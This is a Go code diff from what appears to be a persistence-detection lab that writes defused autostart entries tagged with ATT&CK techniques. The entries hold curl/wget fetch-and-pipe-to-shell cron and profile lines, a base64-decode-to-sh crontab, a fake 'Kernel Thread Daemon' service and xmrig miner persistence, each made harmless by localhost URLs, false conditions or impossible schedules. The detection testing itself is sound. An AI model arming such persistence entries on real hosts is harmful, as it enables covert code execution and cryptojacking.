@@ -1,6 +1,9 @@
 package main
 
-import "time"
+import (
+	"fmt"
+	"time"
+)
 
 const (
 	// never is a schedule of cron that no day meets.
@@ -12,21 +15,21 @@ const (
 // persistenceAttacks are entries of what starts programs by itself. Each is harmless
 // to a host that really reads it: its day does not come, or its condition is
 // false. An entry alone is a warning.
-func persistenceAttacks() []scenario {
+func persistenceAttacks(n *names) []scenario {
 	local := entry("rc.local runs from a temporary directory", "T1037.004", false, "/etc/rc.local",
-		"#!/bin/sh\nif false; then\n\t/var/tmp/.labrc95/start &\nfi\n", 0o755)
+		fmt.Sprintf("#!/bin/sh\nif false; then\n\t%s &\nfi\n", n.temp(".*/*")), 0o755)
 	local.unless = "/etc/rc.local"
 	return []scenario{
 		local,
-		entry("cron.d fetches and runs", "T1053.003", true, "/etc/cron.d/cryptojack-lab-91",
+		entry("cron.d fetches and runs", "T1053.003", true, n.path("/etc/cron.d/*"),
 			never+" nobody curl -s http://127.0.0.1/x | sh\n", 0o644),
-		entry("user's crontab decodes and runs", "T1053.003", false, "/var/spool/cron/crontabs/cryptojack-lab",
+		entry("user's crontab decodes and runs", "T1053.003", false, n.path("/var/spool/cron/crontabs/*"),
 			never+" echo L2Jpbi90cnVlCg== | base64 -d | sh\n", 0o600),
-		entry("service runs from a hidden place", "T1543.002", false, "/etc/systemd/system/cryptojack-lab-93.service",
-			"[Unit]\nDescription=Kernel Thread Daemon\n\n[Service]\nExecStart=/tmp/.labsvc93/y\nRestart=always\n", 0o644),
-		entry("profile fetches and runs", "T1546.004", false, "/etc/profile.d/cryptojack-lab-94.sh",
+		entry("service runs from a hidden place", "T1543.002", false, n.path("/etc/systemd/system/*.service"),
+			fmt.Sprintf("[Unit]\nDescription=Kernel Thread Daemon\n\n[Service]\nExecStart=%s\nRestart=always\n", n.temp(".*/*")), 0o644),
+		entry("profile fetches and runs", "T1546.004", false, n.path("/etc/profile.d/*.sh"),
 			"if false; then\n\twget -q -O - http://127.0.0.1/x | sh\nfi\n", 0o644),
-		entry("cron.d runs a known miner", "T1053.003", false, "/etc/cron.d/cryptojack-lab-96",
+		entry("cron.d runs a known miner", "T1053.003", false, n.path("/etc/cron.d/*"),
 			never+" nobody /usr/local/lib/xmrig --version\n", 0o644),
 	}
 }
